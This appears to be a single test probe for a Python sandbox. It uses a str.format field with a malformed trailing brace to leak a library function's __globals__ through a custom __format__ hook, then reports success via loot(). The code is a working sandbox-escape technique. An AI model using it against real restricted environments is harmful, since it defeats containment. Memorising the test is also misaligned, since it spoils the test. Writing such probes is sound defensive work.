# aim: read an attribute by a format string that ends in a mistake
# mechanism: str.format reads the fields before the one that does not parse
# language: guard
# reason: a format string that does not parse is refused
# jail: process
# plain: loot

import textwrap

found = []


class Spy:
    def __format__(self, specification):
        found.append(specification)
        return ""


try:
    "{0:{1.__globals__}} {".format(Spy(), textwrap.dedent)
except ValueError:
    pass
for text in found:
    if "__builtins__" in text:
        loot("mutated: the variables of a library as text")
